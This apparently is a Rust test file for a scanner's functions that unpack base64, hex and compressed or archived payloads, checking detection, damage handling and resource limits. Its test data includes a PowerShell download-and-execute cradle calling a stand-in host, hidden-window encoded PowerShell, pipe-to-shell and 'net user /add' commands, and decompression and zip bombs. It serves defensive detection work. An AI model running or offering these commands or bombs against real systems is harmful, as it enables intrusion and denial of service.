//! `b64_unpack` and `b64_decode_text` from outside: what must be found, what must not, and what hostile input may cost.

use super::{Item, Limits, Status, b64_decode_text, b64_unpack};
use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE_NO_PAD};
use proptest::prelude::*;
use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://host.example/a.ps1')";

fn b64(bytes: impl AsRef<[u8]>) -> String {
    BASE64_STANDARD.encode(bytes)
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn bzip2(bytes: &[u8]) -> Vec<u8> {
    let mut out = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn zip(members: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        out.start_file(*name, zip::write::SimpleFileOptions::default().compression_method(method)).unwrap();
        out.write_all(bytes).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn stored(members: &[(&str, &[u8])]) -> Vec<u8> {
    zip(members, zip::CompressionMethod::Stored)
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o600);
        header.set_cksum();
        out.append_data(&mut header, name, *bytes).unwrap();
    }
    out.into_inner().unwrap()
}

fn unpack(text: &str) -> Vec<Item> {
    b64_unpack(text, &Limits::default())
}

/// `path kind encoding status text` a line.
fn show(items: &[Item]) -> String {
    items
        .iter()
        .map(|i| format!("{} {} {} {} {}", i.path(), i.kind(), i.encoding(), i.status().name(), i.text().unwrap_or("-")))
        .collect::<Vec<_>>()
        .join("\n")
}

fn wrap(symbols: &str, width: usize, joint: &str) -> String {
    symbols.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect::<Vec<_>>().join(joint)
}

#[test]
fn one_layer_in_every_dress() {
    let plain = b64(COMMAND);
    let utf16 = b64(utf16le(COMMAND));
    let cases = [
        ("bare", plain.clone(), "base64"),
        ("in a command", format!("cmd /c echo {plain} > %TEMP%\\x.b64"), "base64"),
        ("quoted", format!("[Convert]::FromBase64String('{plain}')"), "base64"),
        ("in double quotes", format!("x=\"{plain}\";"), "base64"),
        ("data url", format!("data:text/plain;base64,{plain}"), "base64"),
        ("key=value", format!("q={plain}&r=1"), "base64"),
        ("powershell", format!("powershell.exe -nop -w hidden -enc {utf16}"), "base64+utf-16le"),
        ("utf-16be", b64(utf16be(COMMAND)), "base64+utf-16be"),
        ("utf-16le with a mark", b64([&[0xff, 0xfe][..], &utf16le(COMMAND)].concat()), "base64+utf-16le"),
        ("utf-8 with a mark", b64([b"\xef\xbb\xbf", COMMAND.as_bytes()].concat()), "base64"),
        ("no padding", BASE64_STANDARD_NO_PAD.encode(COMMAND), "base64"),
        ("too much padding", format!("{}====", BASE64_STANDARD_NO_PAD.encode(COMMAND)), "base64"),
        ("percent-encoded padding", format!("a={}%3D%3D&b", BASE64_STANDARD_NO_PAD.encode(COMMAND)), "base64"),
        ("lines", wrap(&plain, 64, "\n"), "base64"),
        ("lines CRLF", wrap(&plain, 64, "\r\n"), "base64"),
        ("short lines", wrap(&plain, 20, "\n"), "base64"),
        ("yaml", format!("data: |\n    {}\nnext: 1", wrap(&plain, 40, "\n    ")), "base64"),
        ("json line breaks", format!("{{\"a\":\"{}\"}}", wrap(&plain, 60, "\\n")), "base64"),
        ("json leading break", format!("\"x\\n{plain}\""), "base64"),
        ("cmd continuation", wrap(&plain, 40, "^\r\n"), "base64"),
        ("powershell continuation", wrap(&plain, 40, " `\n"), "base64"),
        ("concatenation", format!("'{}'", wrap(&plain, 16, "'+'")), "base64"),
        ("vba concatenation", format!("\"{}\"", wrap(&plain, 30, "\" & _\r\n  \"")), "base64"),
        ("pem", format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----", wrap(&plain, 64, "\n")), "base64"),
        ("followed by a word", format!("{}\nEngineVersion=5.1", wrap(&plain, 64, "\n")), "base64"),
        ("after a path", format!("/tmp/upload/{}", BASE64_URL_SAFE_NO_PAD.encode(COMMAND)), "base64"),
        ("hex", COMMAND.bytes().map(|b| format!("{b:02x}")).collect(), "hex"),
        ("0x hex", format!("0x{}", COMMAND.bytes().map(|b| format!("{b:02X}")).collect::<String>()), "hex"),
        ("escapes", COMMAND.bytes().map(|b| format!("\\x{b:02x}")).collect(), "hex-escape"),
        ("percent", COMMAND.bytes().map(|b| format!("%{b:02x}")).collect(), "percent"),
        ("chars", COMMAND.bytes().map(|b| format!("[char]{b}")).collect::<Vec<_>>().join("+"), "char"),
    ];
    for (name, text, encoding) in cases {
        let items = unpack(&text);
        assert_eq!(items.len(), 1, "{name}: {}", show(&items));
        let item = &items[0];
        assert_eq!((item.text(), item.encoding().as_str(), item.status()), (Some(COMMAND), encoding, Status::Ok), "{name}");
        assert!(!text[item.start()..].is_empty(), "{name}");
    }
}

#[test]
fn short_ones() {
    for (text, expected) in [
        ("powershell -e dwBoAG8AYQBtAGkA", "whoami"),
        ("echo d2hvYW1pIC9hbGw= | base64 -d", "whoami /all"),
        ("cGluZyAgbWljcm9zb2Z0LmNvbSAtbiAxNSA=", "ping  microsoft.com -n 15 "),
        ("Authorization: Basic YWRtaW46cGFzc3dvcmQ=", "admin:password"),
        ("token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.x", "{\"alg\":\"HS256\",\"typ\":\"JWT\"}"),
    ] {
        assert_eq!(unpack(text).iter().filter_map(Item::text).collect::<Vec<_>>(), [expected], "{text}");
    }
}

#[test]
fn containers() {
    let text = COMMAND.as_bytes();
    let deflated = |members: &[(&str, &[u8])]| zip(members, zip::CompressionMethod::Deflated);
    let long = "line of text ".repeat(50);
    let cases: [(&str, Vec<u8>, String); 14] = [
        ("gzip", gzip(text), format!("1 gzip base64 ok -\n1.1 text gzip ok {COMMAND}")),
        ("zlib", zlib(text), format!("1 zlib base64 ok -\n1.1 text zlib ok {COMMAND}")),
        ("deflate", deflate(text), format!("1 deflate base64 ok -\n1.1 text deflate ok {COMMAND}")),
        ("bzip2", bzip2(text), format!("1 bzip2 base64 ok -\n1.1 text bzip2 ok {COMMAND}")),
        ("zip deflated", deflated(&[("a.ps1", long.as_bytes())]), format!("1 zip base64 ok -\n1.1 text zip ok {long}")),
        ("zip stored", stored(&[("a.ps1", text)]), format!("1 zip base64 ok -\n1.1 text zip ok {COMMAND}")),
        ("zip bzip2", zip(&[("a.ps1", text)], zip::CompressionMethod::Bzip2), format!("1 zip base64 ok -\n1.1 text zip ok {COMMAND}")),
        (
            "zip in zip",
            deflated(&[("x/", b""), ("in.zip", &stored(&[("a", text), ("b", b"second")]))]),
            format!("1 zip base64 ok -\n1.1 zip zip ok -\n1.1.1 text zip ok {COMMAND}\n1.1.2 text zip ok second"),
        ),
        (
            "tar",
            tar(&[("a", text), ("empty", b""), ("b.bin", &[0, 1, 2, 3, 200])]),
            format!("1 tar base64 ok -\n1.1 text tar ok {COMMAND}\n1.2 empty tar ok \n1.3 binary tar ok -"),
        ),
        ("tar.gz", gzip(&tar(&[("a", text)])), format!("1 gzip base64 ok -\n1.1 tar gzip ok -\n1.1.1 text tar ok {COMMAND}")),
        (
            "two gzip streams",
            [gzip(text), gzip(b"more")].concat(),
            format!("1 gzip base64 ok -\n1.1 text gzip ok {COMMAND}\n1.2 text gzip ok more"),
        ),
        (
            "base64 in gzip in base64",
            gzip(b64(utf16le(COMMAND)).as_bytes()),
            format!("1 gzip base64 ok -\n1.1 text gzip ok {}\n1.1.1 text base64+utf-16le ok {COMMAND}", b64(utf16le(COMMAND))),
        ),
        ("docx", stored(&[("word/document.xml", b"<w/>")]), "1 docx base64 ok -\n1.1 text zip ok <w/>".to_owned()),
        ("jar", stored(&[("META-INF/MANIFEST.MF", b"Main")]), "1 jar base64 ok -\n1.1 text zip ok Main".to_owned()),
    ];
    for (name, bytes, expected) in cases {
        assert_eq!(
            show(&unpack(&format!("echo {} | sh", b64(bytes)))),
            expected.replace("text zip ok <w/>", "text docx ok <w/>").replace("text zip ok Main", "text jar ok Main"),
            "{name}"
        );
    }
}

#[test]
fn layers() {
    for layers in 1..=20 {
        let mut text = COMMAND.to_owned();
        for _ in 0..layers {
            text = b64(text);
        }
        let items = unpack(&text);
        assert_eq!(items.len(), layers, "{layers} layers: {}", items.len());
        assert_eq!(items.last().and_then(Item::text), Some(COMMAND), "{layers} layers");
        assert_eq!(b64_decode_text(&text, &Limits::default()), COMMAND, "{layers} layers");
    }
    // Short payloads: every layer must be believed for what the next one holds.
    let mut text = "whoami /all".to_owned();
    for _ in 0..3 {
        text = b64(text);
    }
    assert_eq!(b64_decode_text(&text, &Limits::default()), "whoami /all");
}

#[test]
fn several_in_one_text_each_on_its_own() {
    let text = format!(
        "a {} b 3f786850e387550fdab836ed7e6dc881de23001b c {} d {}",
        b64(COMMAND),
        b64(gzip(b"zipped text")),
        b64(utf16le("net user /add"))
    );
    let items = unpack(&text);
    assert_eq!(
        items.iter().map(|i| (i.path(), i.kind())).collect::<Vec<_>>(),
        [("1", "text"), ("2", "gzip"), ("2.1", "text"), ("3", "text")]
    );
    assert_eq!(
        b64_decode_text(&text, &Limits::default()),
        format!("a {COMMAND} b 3f786850e387550fdab836ed7e6dc881de23001b c zipped text d net user /add")
    );
    assert_eq!(show(&unpack(&text)), show(&items), "no state between calls");
}

#[test]
fn damaged_and_cut() {
    let text = "line of text that is long enough to be cut somewhere in the middle. ".repeat(20);
    let mut damaged_zip = stored(&[("a.txt", text.as_bytes()), ("b.txt", b"second")]);
    damaged_zip[100] ^= 0x55;
    let mut damaged_gzip = gzip(COMMAND.as_bytes());
    let crc = damaged_gzip.len() - 6;
    damaged_gzip[crc] ^= 1;
    let mut encrypted = stored(&[("a.txt", b"secret text")]);
    let central = encrypted.len() - 22 - 46 - 5;
    encrypted[central + 8] |= 1;
    let whole = stored(&[("a.txt", text.as_bytes()), ("b.txt", b"second")]);
    let lines =
        |items: &[Item]| items.iter().map(|i| format!("{} {} {}", i.path(), i.kind(), i.status().name())).collect::<Vec<_>>().join(", ");
    for (name, run, expected) in [
        ("base64 cut within a group", b64(COMMAND)[..61].to_owned(), "1 text truncated"),
        ("base64 cut at a group", b64(COMMAND)[..60].to_owned(), "1 text ok"),
        ("utf-16 cut within a character", b64(&utf16le(COMMAND)[..41]), "1 text truncated"),
        ("gzip cut", b64(&gzip(text.as_bytes())[..60]), "1 gzip ok, 1.1 text truncated"),
        ("gzip checksum", b64(damaged_gzip), "1 gzip ok, 1.1 text corrupt"),
        ("zip member", b64(damaged_zip), "1 zip ok, 1.1 text corrupt, 1.2 text ok"),
        ("zip without directory", b64(&whole[..whole.len() - 60]), "1 zip truncated, 1.1 text ok, 1.2 text ok"),
        ("zip cut in a member", b64(&whole[..700]), "1 zip truncated, 1.1 text truncated"),
        ("encrypted", b64(encrypted), "1 zip ok, 1.1 binary encrypted"),
        ("tar cut", b64(&tar(&[("a.txt", text.as_bytes())])[..1000]), "1 tar ok, 1.1 text truncated"),
    ] {
        assert_eq!(lines(&unpack(&format!("x {run} y"))), expected, "{name}");
    }
}

#[test]
fn kinds_by_magic() {
    let mut pe = vec![0_u8; 256];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    for (bytes, kind) in [
        (pe, "pe"),
        (b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec(), "elf"),
        (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj".to_vec(), "pdf"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0\0\0\0\0".to_vec(), "ole"),
        (b"7z\xbc\xaf\x27\x1c\0\x04\x01\x02\x03\x04".to_vec(), "7z"),
        (b"Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5".to_vec(), "rar"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "png"),
        (b"\xac\xed\0\x05sr\0\x11java.util.HashSet".to_vec(), "java_serialized"),
    ] {
        assert_eq!(unpack(&format!("x {}", b64(bytes)))[0].kind(), kind);
    }
}

#[test]
fn nothing_where_nothing_is() {
    for text in [
        "",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709 d41d8cd98f00b204e9800998ecf8427e",
        "4A7FE08A-73A0-137C-4D80-D1C48C01EA20 {4a7fe08a-73a0-137c-4d80-d1c48c01ea20}",
        "MicrosoftMonitoringAgentWindowsAzureTelemetryService",
        "LocalServiceNetworkRestricted -RestrictPrivileges BaselineWindowsServer2016",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ngen.exe",
        "/usr/lib/x86_64-linux-gnu/perl/5.34/auto/List/Util",
        "https://www.example.com/some/path/to/a/resource/index.html?query=something&other=value",
        "amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.14393.2602_none_7ee6020e2207416d",
        "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "THEQUICKBROWNFOXJUMPSOVERTHELAZYDOG thequickbrownfoxjumpsoverthelazydog",
        "0123456789012345678901234567890123456789",
        "S-1-5-21-3623811015-3361044348-30300820-1013",
        "ssh-rsa is not enough",
        "2019-01-14T05:15:03.000Z 1547442903000 0x00000000000003e7",
    ] {
        assert_eq!(show(&unpack(text)), "", "{text}");
    }
    for byte in [b'A', b'a', b'=', b'/', b'+', b'-', b'0', b'\\', b'%', b'\n', b'z'] {
        assert_eq!(show(&unpack(&String::from_utf8(vec![byte; 5000]).unwrap())), "", "{}", char::from(byte));
    }
}

#[test]
fn limits_are_rows() {
    let line =
        |items: &[Item]| items.iter().map(|i| format!("{} {} {}", i.path(), i.kind(), i.status().name())).collect::<Vec<_>>().join(", ");
    let limits = Limits::default();
    let bomb = b64(gzip(&vec![b'a'; 16 << 20]));
    let items = unpack(&bomb);
    assert_eq!(line(&items), "1 gzip ok, 1.1 text limit_ratio");
    let head = items[1].bytes().map_or(0, <[u8]>::len);
    assert_eq!(head, items[0].bytes().unwrap().len() * 200, "the head is kept");

    let mut nested = COMMAND.to_owned();
    for _ in 0..4 {
        nested = b64(nested);
    }
    assert_eq!(line(&b64_unpack(&nested, &Limits { max_depth: 2, ..limits.clone() })), "1 text ok, 1.1 text limit_depth");
    let members: Vec<(String, Vec<u8>)> = (0..9).map(|i| (format!("f{i}"), b"content".to_vec())).collect();
    let members: Vec<(&str, &[u8])> = members.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    let items = b64_unpack(&b64(stored(&members)), &Limits { max_members: 3, ..limits.clone() });
    assert_eq!(line(&items), "1 zip limit_members, 1.1 text ok, 1.2 text ok");
    let many = format!("{0} {0} {0}", b64(COMMAND));
    assert_eq!(line(&b64_unpack(&many, &Limits { max_members: 2, ..limits.clone() })), "1 text ok, 2 text ok, 3 unread limit_members");
    let items = b64_unpack(&many, &Limits { max_bytes: 100, ..limits.clone() });
    assert_eq!(line(&items), "1 text ok, 2 text limit_bytes, 3 unread limit_bytes");
    assert_eq!(items.iter().filter_map(Item::bytes).map(<[u8]>::len).sum::<usize>(), 100);
    assert_eq!(
        b64_decode_text(&many, &Limits { max_members: 2, ..limits }),
        format!("{COMMAND} {COMMAND} <limit_members>{}", b64(COMMAND))
    );
}

/// A debug build on a busy machine is slower by far than a release build: the point is that nothing is quadratic.
const PATIENCE: Duration = Duration::from_secs(5);

#[test]
fn hostile_inputs_stay_linear() {
    let mega = 1 << 20;
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut random = |alphabet: &[u8], length: usize| -> String {
        (0..length)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                char::from(alphabet[(seed >> 33) as usize % alphabet.len()])
            })
            .collect()
    };
    let symbols = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let noise = random(symbols, mega);
    let overlapping = {
        // One deflated member, and a directory that names it a thousand times.
        let whole = zip(&[("a", &vec![b'x'; 1 << 20])], zip::CompressionMethod::Deflated);
        let end = whole.len() - 22;
        let entry = 46 + 1;
        let central = end - entry;
        let mut bytes = whole[..central].to_vec();
        for _ in 0..1000 {
            bytes.extend_from_slice(&whole[central..end]);
        }
        let mut tail = whole[end..].to_vec();
        tail[8..10].copy_from_slice(&1000_u16.to_le_bytes());
        tail[10..12].copy_from_slice(&1000_u16.to_le_bytes());
        tail[12..16].copy_from_slice(&(1000 * entry as u32).to_le_bytes());
        bytes.extend_from_slice(&tail);
        b64(bytes)
    };
    let nested_zip = {
        let mut bytes = vec![0_u8; 1 << 20];
        for _ in 0..6 {
            let members: Vec<(String, Vec<u8>)> = (0..8).map(|i| (i.to_string(), bytes.clone())).collect();
            let members: Vec<(&str, &[u8])> = members.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
            bytes = zip(&members, zip::CompressionMethod::Deflated);
        }
        b64(bytes)
    };
    let deep_gzip = {
        let mut bytes = COMMAND.as_bytes().to_vec();
        for _ in 0..200 {
            bytes = gzip(&bytes);
        }
        b64(bytes)
    };
    for (name, text) in [
        ("one letter", "A".repeat(mega)),
        ("another letter", "Q".repeat(mega)),
        ("noise", noise.clone()),
        ("noise in lines", wrap(&noise, 76, "\n")),
        ("noise in short lines", wrap(&noise, 16, "\n")),
        ("noise in words", wrap(&noise, 12, " ")),
        ("noise with slashes", wrap(&noise, 15, "/")),
        ("noise joined", format!("'{}'", wrap(&noise, 12, "'+'"))),
        ("payloads between slashes", format!("{}/", BASE64_URL_SAFE_NO_PAD.encode("Hello world hello.")).repeat(mega / 25)),
        ("printable lookalikes", wrap(&b64(random(b"$%&!?:;#^~", mega)), 64, "\n")),
        ("tiny candidates", wrap(&b64(COMMAND).repeat(5000), b64(COMMAND).len(), " ")),
        ("gzip headers", "H4sIAAAAAAAAA/".repeat(mega / 14)),
        ("bzip2 headers", "QlpoOTFBWSZTWQAA ".repeat(mega / 17)),
        ("zip headers", "UEsDBBQAAAAIAAAA ".repeat(mega / 17)),
        ("escapes", "\\x41\\x".repeat(mega / 6)),
        ("percent", "%4".repeat(mega / 2)),
        ("percent whole", "%7e".repeat(mega / 3)),
        ("chars", "[char]1+".repeat(mega / 8)),
        ("blanks after lines", format!("{}\n", "A".repeat(20) + &" ".repeat(200)).repeat(mega / 220)),
        ("0x", "0x".repeat(mega / 2)),
        ("byte lists", "[byte[]]".repeat(mega / 8)),
        ("overlapping zip", overlapping),
        ("nested zip", nested_zip),
        ("deep gzip", deep_gzip),
        ("bzip2 bomb", b64(bzip2(&vec![0; 32 << 20]))),
        ("bzip2 many", format!("{} ", b64(bzip2(COMMAND.as_bytes()))).repeat(1500)),
        ("gzip bomb", b64(gzip(&vec![0; 32 << 20]))),
    ] {
        let start = Instant::now();
        let items = unpack(&text);
        let took = start.elapsed();
        let total: usize = items.iter().filter_map(Item::bytes).map(<[u8]>::len).sum();
        eprintln!("{name}: {} bytes, {took:?}, {} items, {total} bytes out", text.len(), items.len());
        assert!(took < PATIENCE, "{name}: {took:?}");
        assert!(total <= 16 << 20 && items.len() <= 1001, "{name}");
    }
}

/// Invariants of every result.
fn check(text: &str, items: &[Item]) {
    for (index, item) in items.iter().enumerate() {
        assert_eq!(item.depth(), item.path().split('.').count());
        assert!(items[..index].iter().all(|other| other.path() != item.path()));
        if let Some((parent, _)) = item.path().rsplit_once('.') {
            assert!(items[..index].iter().any(|other| other.path() == parent), "parents come first");
        } else {
            assert!(text.is_char_boundary(item.start()));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn any_text(text in "\\PC{0,200}") {
        check(&text, &unpack(&text));
        b64_decode_text(&text, &Limits::default());
    }

    #[test]
    fn any_symbols(text in "[A-Za-z0-9+/=_\\-\\\\ \\n%x&#;\\[\\]'\"]{0,400}") {
        check(&text, &unpack(&text));
        b64_decode_text(&text, &Limits::default());
    }

    #[test]
    fn any_bytes_behind_a_magic(magic in 0..8_usize, bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let magics: [&[u8]; 8] = [b"PK\x03\x04\x14\0", b"\x1f\x8b\x08\0\0\0\0\0\0\xff", b"BZh91AY&SY", b"\x78\x9c", b"MZ", b"\x80\x04", b"\xff\xfe", b""];
        let text = b64([magics[magic], &bytes].concat());
        check(&text, &unpack(&text));
        let text = format!("FromBase64String('{text}')");
        check(&text, &unpack(&text));
    }

    #[test]
    fn a_planted_command_is_found(
        before in "[ -~]{0,60}[ \"'=:(,]", after in "[ \"'),;]([ -~]{0,60})",
        command in "(powershell|cmd /c|bash -c|curl http://[a-z]{3,12}\\.example/) [a-z]{2,10}( ([a-z]{2,12}|[0-9]{2,8}|/[a-z]{2,6}/[a-z]{2,6})){1,6}",
        dress in 0..5_usize,
    ) {
        let bytes = match dress {
            0 => command.as_bytes().to_vec(),
            1 => utf16le(&command),
            2 => gzip(command.as_bytes()),
            3 => stored(&[("a", command.as_bytes())]),
            _ => b64(&command).into_bytes(),
        };
        let text = format!("{before}{}{after}", b64(bytes));
        let items = unpack(&text);
        prop_assert!(items.iter().any(|item| item.text() == Some(command.as_str())), "{text}: {}", show(&items));
    }

    #[test]
    fn a_text_without_candidates_is_itself(text in "([a-z]{1,9}[ .,:;!?\\n]){0,40}") {
        prop_assert_eq!(b64_decode_text(&text, &Limits::default()), text.as_str());
    }
}
